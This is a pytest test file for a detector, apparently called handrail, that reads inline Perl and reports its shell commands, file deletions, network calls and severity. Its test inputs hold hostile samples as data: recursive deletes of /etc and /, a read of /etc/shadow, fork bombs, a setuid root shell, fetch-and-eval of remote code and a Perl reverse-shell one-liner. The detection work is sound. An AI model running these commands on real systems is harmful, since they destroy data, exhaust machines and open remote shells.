"""Perl is followed far enough to say what it does, and no further."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handrail.model.effect import Kind
from handrail.model.ordinal import Severity
from handrail.shell.inline.perl import read


def effects(code: str) -> list[tuple[Kind, str]]:
    return [(effect.kind, effect.target) for effect in read(code).effects]


@pytest.mark.parametrize(
    ("code", "scripts"),
    [
        ('system("rm -rf /etc")', ("rm -rf /etc",)),
        ("`rm -rf /etc`", ("rm -rf /etc",)),
        ("qx{rm x}; my @l = qx(ls);", ("rm x", "ls")),
        ('my $d="/etc"; my $c = "rm " . "-rf " . $d; system $c;', ("rm -rf /etc",)),
        ('system("rm -rf $d/x");', ("rm -rf \ufffc/x",)),
        ('open(P, "rm x|"); open(my $g, "|-", "sh");', ("rm x", "sh")),
        ('eval "system(q(id))"', ("id",)),
        ('s/a/system("id")/e', ("id",)),
        ("system(<<EOS);\nrm x\nEOS\n", ("rm x\n",)),
        ('system "ls"  # system "rm"', ("ls",)),
        ("rm -rf /", ("rm -rf /",)),
        ('system("rm", "-rf", "$ENV{HOME}/x");', ("rm -rf ~/x",)),
    ],
)
def test_command_lines_that_go_to_a_shell_are_found(code: str, scripts: tuple[str, ...]) -> None:
    assert read(code).scripts == scripts


@pytest.mark.parametrize(
    ("code", "argv"),
    [
        ('exec "rm","-rf","/etc"', ("rm", "-rf", "/etc")),
        ("system(qw(rm -rf x))", ("rm", "-rf", "x")),
    ],
)
def test_a_program_that_is_started_without_a_shell_is_found(
    code: str, argv: tuple[str, ...]
) -> None:
    assert read(code).calls == (argv,)


@pytest.mark.parametrize(
    ("code", "kind", "target"),
    [
        ('unlink "a", "b"', Kind.DELETE, "b"),
        ('unlink glob "/etc/*"', Kind.DELETE, "/etc/*"),
        ("unlink </etc/*>", Kind.DELETE, "/etc/*"),
        ('use File::Path; rmtree("/etc")', Kind.DELETE, "/etc"),
        ('for my $f ("/a","/b") { unlink $f }', Kind.DELETE, "/a"),
        ('open(F, ">/a"); ', Kind.WRITE, "/a"),
        ('open(my $f, "<", "/etc/shadow")', Kind.READ, "/etc/shadow"),
        ('open my $f, ">>", "/a" or die', Kind.WRITE, "/a"),
        ('rename "a", "b"', Kind.WRITE, "b"),
        ('chmod 0777, "a"', Kind.PERMIT, "a"),
        ('use LWP::UserAgent; LWP::UserAgent->new->get("http://a")', Kind.FETCH, "http://a"),
        ('use HTTP::Tiny; HTTP::Tiny->new->post("http://a", {})', Kind.SEND, "http://a"),
        ('$s=IO::Socket::INET->new("a:80");print $s "x"', Kind.SEND, "a:80"),
        ('IO::Socket::INET->new(PeerAddr => "a", PeerPort => 80)', Kind.REACH, "a:80"),
        ("kill 9, -1", Kind.KILL, "every process"),
        ('use POSIX; POSIX::setuid(0); exec "/bin/sh"', Kind.PRIVILEGE, "POSIX.setuid(0)"),
        ('$dbh->do("DROP TABLE t")', Kind.DESTROY, "DROP TABLE t"),
    ],
)
def test_an_effect_is_found_with_its_target(code: str, kind: Kind, target: str) -> None:
    assert (kind, target) in effects(code)


@pytest.mark.parametrize(
    "code",
    [
        'use MIME::Base64; eval(decode_base64("cHJpbnQgMQ=="))',
        'use LWP::Simple; eval get("http://a/x.pl")',
        'system(pack("H*","726d202d7266202f"))',
        "eval(chr(112).chr(114))",
    ],
)
def test_what_nobody_can_see_before_it_runs_is_unseen(code: str) -> None:
    assert Kind.UNSEEN in {effect.kind for effect in read(code).effects}


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("fork while 1", Kind.EXHAUST),
        ("fork while fork", Kind.EXHAUST),
        ("while(1){fork}", Kind.EXHAUST),
        (
            'use Socket;connect(S,sockaddr_in(4444,inet_aton("a")));open(STDIN,">&S");exec("sh");',
            Kind.UNSEEN,
        ),
    ],
)
def test_the_worst_is_critical(code: str, kind: Kind) -> None:
    assert (kind, Severity.CRITICAL) in {(e.kind, e.severity) for e in read(code).effects}


@pytest.mark.parametrize(
    "code",
    [
        "print 'hello\\n'",
        'print "shutdown -h now\\n"',
        "s/git push --force/git push/",
        '# system("rm -rf /")',
        "print 'system(\"rm -rf /\")'",
        'while(<>){print if /system\\("x"\\)/; s/rm -rf/`x`/g}',
        'eval { die "x" }; print $@',
        'my %h=(a=>1); print "$h{a}\\n"; print scalar(@ARGV)',
        'print join(",", map { $_ * 2 } (1..5)), "\\n"',
        "tr/a-z/A-Z/; y/a/b/; print",
    ],
)
def test_ordinary_code_and_words_in_texts_and_comments_do_nothing(code: str) -> None:
    result = read(code)
    assert {effect.kind for effect in result.effects} <= {Kind.READ, Kind.WRITE, Kind.RUN}
    assert not result.scripts
    assert not result.calls


@given(st.text())
def test_no_text_makes_it_raise(text: str) -> None:
    read(text)


@pytest.mark.parametrize(
    "piece", [*"([{'\"`/\\-#<$%@;|&=.", "${", "#{", "--[[", "/*", "<<A\n", "s/[", "a.b("]
)
def test_deep_or_endless_code_is_read_in_time(piece: str) -> None:
    read("system eval os open require(" + piece * 20_000)
